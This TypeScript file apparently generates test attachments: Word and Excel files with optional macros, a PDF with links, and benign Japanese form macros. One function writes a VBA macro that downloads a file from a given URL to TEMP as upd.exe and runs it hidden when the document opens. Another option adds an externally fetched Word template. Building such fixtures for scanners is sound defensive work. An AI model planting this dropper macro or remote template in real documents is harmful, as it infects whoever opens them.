/** Documents as they are attached: Word and Excel (with macros, with a template elsewhere), PDF, a scan. */
import { type Module, vbaProject } from './vba.ts'
import { zip } from './zip.ts'

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')
const file = (name: string, text: string) => ({ name, content: Buffer.from(text, 'utf8') })
const relations = (list: string) =>
  `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${list}</Relationships>`
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

export interface Extras {
  macros?: Module[]
  /** a template that Word fetches when it opens the document */
  template?: string
}

export function word(lines: string[], { macros, template }: Extras = {}): Buffer {
  const body = lines.map((line) => `<w:p><w:r><w:t>${escaped(line)}</w:t></w:r></w:p>`).join('')
  const kind = macros ? 'application/vnd.ms-word.document.macroEnabled' : WORD_TYPE
  return zip([
    file('[Content_Types].xml', types(`<Override PartName="/word/document.xml" ContentType="${kind}.main+xml"/>`)),
    file(
      '_rels/.rels',
      relations(`<Relationship Id="rId1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/>`),
    ),
    file(
      'word/document.xml',
      `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
    ),
    ...(macros
      ? [
          file('word/_rels/document.xml.rels', relations(PROJECT_RELATION)),
          { name: 'word/vbaProject.bin', content: vbaProject(macros) },
        ]
      : []),
    ...(template
      ? [
          file(
            'word/settings.xml',
            `${XML}<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
          ),
          file(
            'word/_rels/settings.xml.rels',
            relations(
              `<Relationship Id="rId1" Type="${OFFICE}/attachedTemplate" Target="${escaped(template)}" TargetMode="External"/>`,
            ),
          ),
        ]
      : []),
  ])
}

const WORD_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const PROJECT_RELATION =
  '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'

const types = (overrides: string) =>
  `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>${overrides}</Types>`

export function excel(rows: string[][], { macros }: Extras = {}): Buffer {
  const cells = rows
    .map((row) => `<row>${row.map((cell) => `<c t="inlineStr"><is><t>${escaped(cell)}</t></is></c>`).join('')}</row>`)
    .join('')
  const kind = macros
    ? 'application/vnd.ms-excel.sheet.macroEnabled'
    : 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
  return zip([
    file('[Content_Types].xml', types(`<Override PartName="/xl/workbook.xml" ContentType="${kind}.main+xml"/>`)),
    file(
      '_rels/.rels',
      relations(`<Relationship Id="rId1" Type="${OFFICE}/officeDocument" Target="xl/workbook.xml"/>`),
    ),
    file(
      'xl/workbook.xml',
      `${XML}<workbook xmlns="${main}" xmlns:r="${OFFICE}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId2"/></sheets></workbook>`,
    ),
    file(
      'xl/_rels/workbook.xml.rels',
      relations(
        `${macros ? PROJECT_RELATION : ''}<Relationship Id="rId2" Type="${OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>`,
      ),
    ),
    file('xl/worksheets/sheet1.xml', `${XML}<worksheet xmlns="${main}"><sheetData>${cells}</sheetData></worksheet>`),
    ...(macros ? [{ name: 'xl/vbaProject.bin', content: vbaProject(macros) }] : []),
  ])
}

/** A macro that fetches and starts a program as soon as the document opens. It is text only; nothing here runs it. */
export function downloader(
  url: string,
  trigger: 'AutoOpen' | 'Document_Open' | 'Workbook_Open' | 'Auto_Open',
): Module[] {
  return [
    {
      name: trigger.startsWith('Workbook')
        ? 'ThisWorkbook'
        : trigger.startsWith('Document')
          ? 'ThisDocument'
          : 'Module1',
      source: [
        `Sub ${trigger}()`,
        '  Dim x, s, p',
        '  p = Environ("TEMP") & "\\upd.exe"',
        '  Set x = CreateObject("MSXML2.XMLHTTP")',
        `  x.Open "GET", "${url}", False`,
        '  x.Send',
        '  Set s = CreateObject("ADODB.Stream")',
        '  s.Type = 1: s.Open: s.Write x.responseBody: s.SaveToFile p, 2',
        '  CreateObject("WScript.Shell").Run p, 0',
        'End Sub',
        '',
      ].join('\r\n'),
    },
  ]
}

/** What forms of authorities and estimate sheets do: buttons that check and print. */
export const FORM_MACROS: Module[] = [
  {
    name: 'Module1',
    source: [
      'Sub 入力チェック()',
      '  If Range("C5").Value = "" Then MsgBox "申請者名を入力してください"',
      'End Sub',
      'Sub 印刷()',
      '  ActiveSheet.PrintOut Copies:=1',
      'End Sub',
      '',
    ].join('\r\n'),
  },
]

/** One page of text. */
export function pdf(lines: string[], links: string[] = []): Buffer {
  const hex = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le').swap16().toString('hex')
  const content = `BT /F1 11 Tf 60 780 Td 16 TL ${lines.map((line) => `<${hex(line)}> Tj T*`).join(' ')} ET`
  const annotations = links.map(
    (url, i) =>
      `${6 + i} 0 obj\n<< /Type /Annot /Subtype /Link /Rect [60 ${700 - i * 20} 400 ${716 - i * 20}] /A << /S /URI /URI (${url}) >> >>\nendobj`,
  )
  const objects = [
    '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj',
    '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj',
    `3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [${links.map((_, i) => `${6 + i} 0 R`).join(' ')}] >>\nendobj`,
    `4 0 obj\n<< /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj`,
    '5 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>\nendobj',
    ...annotations,
  ]
  let text = '%PDF-1.4\n'
  const places = objects.map((object) => {
    const at = text.length
    text += `${object}\n`
    return at
  })
  const at = text.length
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`
  return Buffer.from(text, 'latin1')
}
